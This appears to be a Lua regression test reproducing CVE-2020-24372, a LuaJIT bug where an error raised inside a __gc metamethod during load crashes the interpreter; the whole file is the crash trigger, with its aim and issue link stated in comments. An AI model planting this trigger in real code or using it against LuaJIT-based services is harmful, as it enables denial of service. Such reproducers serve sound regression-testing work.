-- Aim: break the interpreter by an error in __gc.
-- Source: https://github.com/LuaJIT/LuaJIT/issues/601 (CVE-2020-24372)
return (pcall(function()
  local proxy = newproxy(true)
  getmetatable(proxy).__gc = function() load(function() collectgarbage() error() end) end
  for _ = 1, 1e5 do newproxy(proxy) end
end))
